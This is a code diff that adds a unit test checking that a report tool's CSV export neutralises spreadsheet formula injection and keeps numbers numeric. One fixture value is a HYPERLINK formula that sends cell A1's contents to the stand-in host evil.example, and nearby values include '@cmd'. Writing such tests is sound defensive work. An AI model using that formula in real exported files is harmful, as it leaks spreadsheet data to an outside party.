@@ -44,3 +44,33 @@ def test_the_appendix_shows_each_figures_source_grade():
     assert "Source grade" in markup
     weak = figures[(figures["n_sources"] == 1) & figures["tier"].isin(["media", "aggregator"])]
     assert len(weak) and markup.count("one source only</span>") >= len(weak)
+
+
+def test_the_csv_download_neutralises_formulas_and_keeps_numbers_numeric():
+    """Issue 24 item 4 and the "-0.0" cosmetic: the data report's download shipped cells starting with '='."""
+    import base64
+    import csv
+    import io
+    import re
+
+    import kreport
+    from kreport.render.report import Report
+    from kreport.render.tables import csv_download
+
+    data = kreport.load(Path(__file__).resolve().parents[1] / "fixtures" / "data")
+    rep = Report("data", pd.Period("2025Q3", freq="Q-DEC"), "en", data)
+    frame = pd.DataFrame({
+        "title": ['=HYPERLINK("http://evil.example/?x="&A1,"results")', "+SUM(A1)", "-A1", "@cmd", "\tx", "\rx", "plain"],
+        "text_number": ["-4.2", "+3", "1e-3", "-0.0", "12", "", "a = b"],
+        "value": [-4.2, -0.0, 0.0, 3850.0, float("nan"), -1.5e-3, 1.0],
+        "count": [-1, 0, 1, 2, 3, 4, 5],
+    })
+    markup = str(csv_download(rep, frame, "x.csv"))
+    payload = re.search(r'base64,([^"]+)"', markup).group(1)
+    rows = list(csv.reader(io.StringIO(base64.b64decode(payload).decode("utf-8-sig"), newline="")))
+    assert [row[0] for row in rows[1:]] == ['\'=HYPERLINK("http://evil.example/?x="&A1,"results")', "'+SUM(A1)", "'-A1", "'@cmd",
+                                            "'\tx", "'\rx", "plain"]
+    assert [row[1] for row in rows[1:]] == ["-4.2", "+3", "1e-3", "0.0", "12", "", "a = b"]
+    assert [row[2] for row in rows[1:]] == ["-4.2", "0.0", "0.0", "3850.0", "", "-0.0015", "1.0"]
+    assert [row[3] for row in rows[1:]] == ["-1", "0", "1", "2", "3", "4", "5"]
+    assert frame.loc[0, "title"].startswith("=")  # the caller's frame is left as it was
